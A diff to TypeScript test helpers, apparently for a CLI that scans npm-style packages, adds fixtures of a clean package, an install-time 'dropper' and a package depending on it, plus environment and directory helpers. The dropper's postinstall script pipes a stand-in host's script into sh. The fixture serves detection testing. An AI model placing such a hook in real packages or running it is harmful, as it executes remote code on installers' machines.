@@ -170,3 +170,41 @@ export function writeProject(
     ),
   );
 }
+
+/** The trio most CLI scan tests use: a clean package, an install-time dropper and its dependent. */
+export function dropperFixtures(prefix: string): {
+  benign: BuiltPackage;
+  dropper: BuiltPackage;
+  parent: BuiltPackage;
+} {
+  return {
+    benign: packFixture({ name: `${prefix}-benign`, version: '1.0.0' }),
+    dropper: packFixture({
+      name: `${prefix}-dropper`,
+      version: '1.0.0',
+      manifest: { scripts: { postinstall: 'curl -s http://payload.invalid/x.sh | sh' } },
+    }),
+    parent: packFixture({
+      name: `${prefix}-parent`,
+      version: '2.0.0',
+      manifest: { dependencies: { [`${prefix}-dropper`]: '1.0.0' } },
+    }),
+  };
+}
+
+/** The environment of the built CLI in local mode under `work`, against `upstream`. */
+export function localModeEnv(work: string, upstream: string): Record<string, string> {
+  return {
+    HOME: join(work, 'home'),
+    SECURE_REGISTRY_CONFIG_DIR: join(work, 'config'),
+    SECURE_REGISTRY_DATA_DIR: join(work, 'data'),
+    SECURE_REGISTRY_UPSTREAM: upstream,
+  };
+}
+
+/** A new directory `name` under `work`. */
+export function newProjectDir(work: string, name: string): string {
+  const dir = join(work, name);
+  mkdirSync(dir);
+  return dir;
+}
